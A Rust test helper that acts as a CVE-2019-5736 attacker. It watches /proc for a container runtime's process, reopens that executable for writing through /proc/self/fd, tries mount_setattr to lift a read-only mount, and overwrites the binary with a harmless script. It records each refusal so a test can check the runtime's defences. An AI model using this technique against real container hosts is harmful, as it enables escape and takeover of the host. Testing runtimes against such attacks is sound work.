//! `steal-exe DIR`: the CVE-2019-5736 attacker, as a container with CAP_SYS_PTRACE would run it.
//!
//! It watches /proc for processes whose exe is a file that is not one of the container's own
//! programs (a runtime's process before it runs the container's program), opens that exe, and
//! tries to reopen it for writing through /proc/self/fd: at once, and again once told that the
//! runtime no longer runs (ETXTBSY then clears). Where it may, it writes a line at the start of
//! the file, as an attacker replacing the runtime would. With CAP_SYS_ADMIN it first tries to
//! clear the read-only flag of the mount the file is on.
//!
//! DIR is shared with the test: the helper writes `DIR/seen` (how many foreign exe links it has
//! opened so far) as it goes, stops when `DIR/stop` appears, and writes `DIR/report`: one line
//! `processes N` (the processes whose foreign exe it opened), then one line `RESULT COUNT` per final outcome of the files it got (`wrote`, or
//! the errno name of the refusal, such as `EROFS`, `EPERM`, `ETXTBSY`) and `remount RESULT COUNT`
//! for each attempt on a mount flag.

use std::collections::{BTreeMap, HashSet};
use std::fs;
use std::io;
use std::os::fd::{AsRawFd, OwnedFd};
use std::path::Path;
use std::time::{Duration, Instant};

use crate::attacker::{identity, open, other_pids, own_programs, write_report};
use crate::{names, Failure, Outcome};

/// What the attacker writes into the runtime's binary when it can.
const PAYLOAD: &[u8] = b"#!/bin/sh\necho the container replaced this runtime\n";

/// How long, once told to finish, the attacker keeps retrying a file that is still busy.
const LATE_TRIES: Duration = Duration::from_secs(5);

pub fn steal_exe(args: &[String]) -> Outcome {
    let [dir] = args else {
        return Err(Failure::Usage);
    };
    let dir = Path::new(dir);
    let own = own_programs();
    let mut processes = 0u64;
    let mut seen: HashSet<(String, (u64, u64))> = HashSet::new();
    let mut outcomes: BTreeMap<String, u64> = BTreeMap::new();
    // Files still busy (ETXTBSY): kept open, to try again once the runtime has stopped.
    let mut busy: Vec<(OwnedFd, (u64, u64))> = Vec::new();
    while !dir.join("stop").exists() {
        for name in other_pids()? {
            let Ok(exe) = open(&format!("/proc/{name}/exe"), libc::O_PATH) else {
                continue;
            };
            let Ok(meta) =
                fs::File::from(exe.try_clone().map_err(|e| Failure::io("dup", e))?).metadata()
            else {
                continue;
            };
            let id = identity(&meta);
            if own.contains(&id) || !seen.insert((name, id)) {
                continue;
            }
            processes += 1;
            let _ = fs::write(dir.join("seen"), processes.to_string());
            if busy.iter().any(|(_, held)| *held == id) {
                continue;
            }
            match attack(&exe, &mut outcomes) {
                Some(errno) if errno == libc::ETXTBSY => busy.push((exe, id)),
                Some(errno) => *outcomes.entry(names::errno_name(errno)).or_default() += 1,
                None => *outcomes.entry("wrote".into()).or_default() += 1,
            }
        }
        std::thread::sleep(Duration::from_micros(200));
    }
    for (exe, _) in busy {
        let deadline = Instant::now() + LATE_TRIES;
        let result = loop {
            match attack(&exe, &mut outcomes) {
                Some(errno) if errno == libc::ETXTBSY && Instant::now() < deadline => {
                    std::thread::sleep(Duration::from_millis(20))
                }
                Some(errno) => break names::errno_name(errno),
                None => break "wrote".into(),
            }
        };
        *outcomes.entry(result).or_default() += 1;
    }
    write_report(dir, processes, &outcomes)?;
    Ok(0)
}

/// Reopens `exe` for writing and writes the payload at its start: `None` when that worked,
/// otherwise the errno that stopped it. A read-only mount is first asked to become writable.
fn attack(exe: &OwnedFd, outcomes: &mut BTreeMap<String, u64>) -> Option<i32> {
    let path = format!("/proc/self/fd/{}", exe.as_raw_fd());
    let mut result = write_through(&path);
    if result == Some(libc::EROFS) {
        let remount = clear_read_only(exe);
        let word = match &remount {
            Ok(()) => "ok".to_string(),
            Err(e) => names::errno_name(e.raw_os_error().unwrap_or(0)),
        };
        *outcomes.entry(format!("remount {word}")).or_default() += 1;
        if remount.is_ok() {
            result = write_through(&path);
        }
    }
    result
}

fn write_through(path: &str) -> Option<i32> {
    let file = match open(path, libc::O_WRONLY) {
        Ok(file) => file,
        Err(e) => return e.raw_os_error(),
    };
    // SAFETY: pwrite reads PAYLOAD, a live buffer, into the descriptor we own.
    let n = unsafe { libc::pwrite(file.as_raw_fd(), PAYLOAD.as_ptr().cast(), PAYLOAD.len(), 0) };
    if n < 0 {
        return io::Error::last_os_error().raw_os_error();
    }
    None
}

/// mount_setattr(2) clearing MOUNT_ATTR_RDONLY on the mount `fd` is on.
fn clear_read_only(fd: &OwnedFd) -> io::Result<()> {
    // struct mount_attr: attr_set, attr_clr, propagation, userns_fd.
    let attr: [u64; 4] = [0, 1, 0, 0];
    // SAFETY: mount_setattr reads the struct, which outlives the call, and an empty path.
    let rc = unsafe {
        libc::syscall(
            libc::SYS_mount_setattr,
            fd.as_raw_fd(),
            c"".as_ptr(),
            libc::AT_EMPTY_PATH,
            attr.as_ptr(),
            std::mem::size_of_val(&attr),
        )
    };
    if rc < 0 {
        Err(io::Error::last_os_error())
    } else {
        Ok(())
    }
}
